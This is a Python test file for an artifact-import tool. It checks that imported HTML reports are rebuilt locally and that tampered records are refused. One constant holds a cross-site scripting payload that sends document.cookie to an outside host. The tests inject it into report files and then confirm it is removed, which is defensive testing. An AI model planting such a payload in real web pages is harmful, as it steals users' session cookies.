"""A report from elsewhere is made again here: nothing that others wrote as a page reaches a browser."""

from __future__ import annotations

import hashlib
import json
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from helpers import Mini, edit_record, only

from tasks.logged_files import is_logged
from tlm.artifacts.record import RECORD, Output, Record, from_file
from tlm.artifacts.store import ArtifactStore
from tlm.execution.execute import execute
from tlm.execution.importing import copy_new, survey
from tlm.execution.pages import is_page, make_again, set_apart

EVIL = "<script>fetch('http://example.org/' + document.cookie)</script>"


def tamper(mini: Mini, name: str, content: bytes) -> Record:
    """Change a file of the report as somebody does who also writes its record."""
    folder = mini.folder(only(mini.plan, "report"))
    (folder / name).write_bytes(content)
    outputs = json.loads((folder / RECORD).read_text())["outputs"]
    changed = {"sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
    edit_record(folder, outputs={**outputs, name: changed})
    return from_file((folder / RECORD).read_bytes())


def import_all(mini: Mini, store: ArtifactStore, home: Path) -> tuple[list[Any], dict[str, str]]:
    """As `tlm import` does, without MLflow: what was made again, and what was refused."""
    found, pages = set_apart(survey(Path(mini.runtime.home), store))
    assert [record.stage for record in pages] == ["report"]
    copied = copy_new(found, store)
    assert not any(map(is_page, copied.imported))
    runtime = mini.runtime.model_copy(update={"home": str(home)})
    made, refused = make_again(pages, found.source, partial(execute, runtime=runtime))
    return list(made), refused


@pytest.mark.slow
def test_an_imported_report_is_made_again_from_what_was_imported(own: Mini, tmp_path: Path) -> None:
    step = only(own.plan, "report")
    for name in ("report.html", "report.md", "evil.html"):
        tamper(own, name, EVIL.encode())
    tampered = tamper(own, "findings.json", b"{}")
    store = ArtifactStore(str(tmp_path / "new/data/artifacts"))
    assert import_all(own, store, tmp_path / "new") == ([step.ref], {})
    report = store.get(step.ref, verify=True)
    assert set(report.record.outputs) == set(tampered.outputs) - {"evil.html"}
    for name in report.record.outputs:
        assert EVIL.encode() not in report.path(name).read_bytes(), name
    html = report.path("report.html").read_text(encoding="utf-8")
    assert "A miniature" in html and "default-src 'none'" in html
    assert json.loads(report.path("labels.json").read_text()) == step.access["step_labels"]


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("labels.json", b'{"key": 1}', "validation error"),
        ("labels.json", b"\xff", "validation error"),
    ],
)
def test_a_report_that_cannot_be_made_again_is_refused_and_the_rest_is_imported(
    own: Mini, tmp_path: Path, name: str, content: bytes, reason: str
) -> None:
    tamper(own, name, content)
    store = ArtifactStore(str(tmp_path / "new/data/artifacts"))
    made, refused = import_all(own, store, tmp_path / "new")
    step = only(own.plan, "report")
    assert made == [] and list(refused) == [str(step.ref)]
    assert "pages are made again here, and this one cannot be" in refused[str(step.ref)]
    assert reason in refused[str(step.ref)] and "\n" not in refused[str(step.ref)]
    assert {record.key for record in store.records()} == {s.key for s in own.plan.steps} - {step.key}


def test_mlflow_gets_pages_only_of_stages_whose_pages_are_made_here(mini: Mini) -> None:
    """Anything may stand in the outputs of a record that came from elsewhere."""
    small = Output(sha256="0" * 64, bytes=10)
    report, model = (mini.first[only(mini.plan, stage, **labels).key].record for stage, labels in RECORDS)
    for record in (report, model):
        added = dict.fromkeys(("evil.html", "evil.md", "plots/evil.html", "evil.svg", "evil.js"), small)
        other = record.model_copy(update={"outputs": {**record.outputs, **added}})
        assert not any(is_logged(other, name) for name in added)
    assert all(is_logged(report, name) for name in ("report.html", "report.md", "findings.json", "summary.parquet"))
    assert is_logged(model, "metrics.parquet") and not is_logged(model, "model.safetensors")
    large = replace_size(report, "report.html", 10**9)
    assert not is_logged(large, "report.html")


RECORDS = [("report", {}), ("finetune", {"ws": 60, "arch": "one"})]


def replace_size(record: Record, name: str, size: int) -> Record:
    outputs = {**record.outputs, name: record.outputs[name].model_copy(update={"bytes": size})}
    return record.model_copy(update={"outputs": outputs})
